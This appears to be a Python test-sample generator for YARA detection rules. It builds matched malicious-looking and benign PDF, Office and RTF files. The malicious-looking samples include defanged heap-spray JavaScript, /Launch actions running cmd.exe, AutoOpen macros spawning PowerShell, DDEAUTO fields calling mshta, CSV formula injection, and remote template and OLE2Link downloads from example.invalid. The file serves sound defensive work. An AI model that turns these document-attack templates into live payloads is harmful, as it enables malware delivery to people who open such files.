"""PDF, Office and RTF."""

from yara_pack_samples.making import ole, pdf, text, zip_of

CATALOG = "<< /Type /Catalog /Pages 2 0 R {} >>"
PAGES = "<< /Type /Pages /Kids [] /Count 0 >>"
TYPES = ("[Content_Types].xml", b"<Types/>")
RELATION = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{}" Target="{}"{}/></Relationships>'
)
DOCUMENT = "<w:document><w:p><w:instrText>{}</w:instrText></w:p></w:document>"


def spray(api: str) -> str:
    return (
        '<< /S /Java¦Script /JS (var a = unes¦cape\\("%u4141%u4141%u4141%u4141"\\); var b = '
        "unescape\\('%u9090%u9090'\\);"
        f" while \\(b.length < 0x4000\\) b += b; {api}) >>"
    )


def template(target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relations = RELATION.format("attached¦Template", target, mode)
    return zip_of(TYPES, ("word/_rels/settings.xml.rels", text(relations)))


def rtf(body: str) -> bytes:
    return text("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hello\\par " + body + "}")


def wide_hex(value: str) -> str:
    return value.encode("utf-16-le").hex()


PAIRS = {
    "PDF_OpenAction_JavaScript": (
        pdf(CATALOG.format("/Open¦Action 3 0 R"), PAGES, "<< /S /Java¦Script /JS (app.beep\\(0\\)) >>"),
        # A form whose field has a script that nothing starts when the document opens.
        pdf(
            CATALOG.format("/OpenAction [4 0 R /Fit]"), PAGES, "<< /S /URI /URI (https://example.invalid/JavaScript) >>"
        ),
    ),
    "PDF_JavaScript_Exploit_Pattern": (
        pdf(CATALOG.format(""), PAGES, spray("Col¦lab.collectEmailInfo\\({msg: b}\\);")),
        pdf(
            CATALOG.format(""),
            PAGES,
            '<< /S /JavaScript /JS (var name = unescape\\("%41%42"\\); app.alert\\(name\\);) >>',
        ),
    ),
    "PDF_Launch_Program": (
        pdf(
            CATALOG.format("/OpenAction 3 0 R"), PAGES, "<< /S /Lau¦nch /Win << /F (cm¦d.exe) /P (/c echo hello) >> >>"
        ),
        pdf(CATALOG.format(""), PAGES, "<< /S /Launch /F (appendix.pdf) >>"),
    ),
    "PDF_Embedded_File_Auto_Open": (
        pdf(
            CATALOG.format("/Open¦Action 3 0 R"),
            PAGES,
            '<< /S /JavaScript /JS (this.export¦DataObject\\({ cName: "a.txt", nLaunch: 2 }\\);) >>',
            "<< /Type /Embedded¦File /Length 4 >>\nstream\ntext\nendstream",
        ),
        pdf(
            CATALOG.format("/OpenAction [5 0 R /Fit]"),
            PAGES,
            "<< /Type /EmbeddedFile /Length 4 >>\nstream\ntext\nendstream",
        ),
    ),
    "PDF_Escaped_Action_Names": (
        pdf(CATALOG.format("/Names 3 0 R"), PAGES, "<< /S /J#61va¦Script /JS (app.beep\\(0\\)) >>"),
        pdf(CATALOG.format("/Names 3 0 R"), PAGES, "<< /Type /Font /BaseFont /Times#20New#20Roman /Encoding /A#42 >>"),
    ),
    "Office_AutoExec_Macro_Shell": (
        ole(
            text('Sub Auto¦Open()\r\nCreateObject("WScript.Sh¦ell").Run "power¦shell -c Write-Host 1", 0\r\n'),
            names=("_VBA_PROJECT",),
        ),
        ole(
            text('Sub AutoOpen()\r\nActiveDocument.TrackRevisions = True\r\nMsgBox "Shell beach is open"\r\n'),
            names=("_VBA_PROJECT",),
        ),
    ),
    "OOXML_Macro_And_ActiveX": (
        zip_of(TYPES, ("word/vbaPro¦ject.bin".replace("¦", ""), b"filler"), ("word/activeX/activeX1.bin", b"filler")),
        zip_of(TYPES, ("word/document.xml", b"see word/vbaProject.bin"), ("word/activeX/activeX1.bin", b"filler")),
    ),
    "OOXML_Excel4_Macro_Sheet": (
        zip_of(TYPES, ("xl/workbook.xml", b"<workbook/>"), ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")),
        zip_of(TYPES, ("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", b"xl/macrosheets/sheet1.xml")),
    ),
    "Office_Remote_Template": (
        template("http://example.invalid/t.dotm"),
        template("Normal.dotm", external=False),
    ),
    "RTF_Remote_Template": (
        rtf("{\\*\\temp¦late http://example.invalid/t.dot}"),
        rtf("{\\*\\template C:\\\\Templates\\\\letter.dot} see http://example.invalid/"),
    ),
    "Office_DDE_Command": (
        zip_of(
            TYPES,
            (
                "word/document.xml",
                text(DOCUMENT.format('DDE¦AUTO c:\\\\windows\\\\system32\\\\cm¦d.exe "/k echo hello"')),
            ),
        ),
        zip_of(TYPES, ("word/document.xml", text(DOCUMENT.format('DDEAUTO excel "sheet1.xls" R1C1')))),
    ),
    "Spreadsheet_Text_DDE_Formula": (
        text("name,amount\nMiller,=cm¦d|'/c echo hello'!A1\n"),
        text("name,amount\nMiller,=SUM(A1:A9)\nnote,type cmd|'more' to page!\n"),
    ),
    "RTF_Equation_Editor_Object": (
        rtf("{\\object\\objemb{\\*\\obj¦data 0105000002000000" + b"Equa\x74ion.3".hex() + "00}}"),
        rtf("{\\object\\objemb{\\*\\objdata 0105000002000000" + b"Word.Document.8".hex() + "00}} Equation.3"),
    ),
    "RTF_Link_Object_Download": (
        rtf(
            "{\\object\\objautlink\\obj¦update{\\*\\objdata 01050000"
            + b"OLE2Link".hex()
            + wide_hex("http://example.invalid/a.hta")
            + "}}"
        ),
        rtf(
            "{\\object\\objautlink{\\*\\objdata 01050000"
            + b"Excel.Sheet.8".hex()
            + wide_hex("http://example.invalid/a.xls")
            + "}}"
        ),
    ),
    "RTF_Package_With_Program": (
        rtf("{\\object\\objemb{\\*\\obj¦data 01050000" + b"Package\0".hex() + b"invoice.vbs\0".hex() + "}}"),
        rtf("{\\object\\objemb{\\*\\objdata 01050000" + b"Package\0".hex() + b"invoice.txt\0".hex() + "}}"),
    ),
}

FLAT = '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
PACKAGE = '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{}</pkg:package>'
DDE = "DDE¦AUTO c:\\\\windows\\\\system32\\\\msh¦ta.exe http://example.invalid/"

ALSO = {
    "PDF_OpenAction_JavaScript": [
        b"junk before\n" + pdf(CATALOG.format("/AA << /O 3 0 R >>"), PAGES, "<< /S/Java¦Script/JS 4 0 R >>"),
    ],
    "PDF_JavaScript_Exploit_Pattern": [
        pdf(CATALOG.format(""), PAGES, spray('util.prin¦tf\\("%45000f", 1\\);').replace("while", "until")),
        pdf(CATALOG.format(""), PAGES, spray("this.media.newPla¦yer\\(null\\);").replace("while", "until")),
        pdf(CATALOG.format(""), PAGES, spray("doc.getAn¦nots\\(a\\);").replace("while", "until")),
        pdf(CATALOG.format(""), PAGES, spray("")),
    ],
    "PDF_Launch_Program": [pdf(CATALOG.format("/OpenAction 3 0 R"), PAGES, "<< /S/Lau¦nch /F (/bin/sh) >>")],
    "PDF_Escaped_Action_Names": [
        pdf(CATALOG.format("/#4fpenAction 3 0 R"), PAGES),
        pdf(CATALOG.format("/Open#41ction 3 0 R"), PAGES),
        pdf(CATALOG.format("/OpenAction 3 0 R"), PAGES, "<< /S /JavaScr#69pt >>".replace("cr#69pt", "cri#70t")),
        pdf(CATALOG.format(""), PAGES, "<< /S /Java#53cript >>"),
        pdf(CATALOG.format(""), PAGES, "<< /S /L#61unch >>"),
    ],
    "Office_AutoExec_Macro_Shell": [
        ole(
            text(
                'Sub Workbook_Open()\r\nURLDownload¦ToFile 0, "http://example.invalid/", "a.txt", 0, 0\r\n'
                'Shell "stage.txt"\r\n'
            ),
            names=("_VBA_PROJECT",),
        ),
        ole(
            text('Sub Document_Open()\r\nGetObject("winmgmts:root\\cimv2:Win32_Pro¦cess").Create "msh¦ta x"\r\n'),
            names=("_VBA_PROJECT",),
        ),
    ],
    "Office_Remote_Template": [
        text(
            FLAT
            + PACKAGE.format(
                RELATION.format("attached¦Template", "https://example.invalid/t", ' TargetMode="External"')
            )
        ),
    ],
    "RTF_Remote_Template": [rtf("{\\*\\temp¦late \\u104?\\u116?\\u116?\\u112?\\u58?}")],
    "Office_DDE_Command": [
        rtf("{\\field{\\*\\fldinst " + DDE + "}}"),
        text(FLAT + DOCUMENT.format(DDE)),
        ole(text("\x13 " + DDE + " \x15")),
    ],
    "Spreadsheet_Text_DDE_Formula": [
        text("@SUM(1+1)*cm¦d|' /c echo hello'!A0\n"),
        text('"a";"+power¦shell|\'-c echo\'!A1"\n').replace(b'"+', b"+"),
        text("=msex¦cel|'\\..\\..\\..\\Windows\\System32\\cm¦d.exe /c echo'!''\n"),
    ],
    "RTF_Equation_Editor_Object": [
        rtf("{\\object\\objocx{\\*\\obj¦data 01050000" + "02CE0200" + "00000000C000000000000046}}"),
    ],
    "RTF_Link_Object_Download": [
        rtf(
            "{\\object\\obj¦update{\\*\\objdata "
            "E0C9EA79F9BACE11"
            "8C8200AA004BA90B" + wide_hex("https://example.invalid/a") + "}}"
        ),
    ],
}
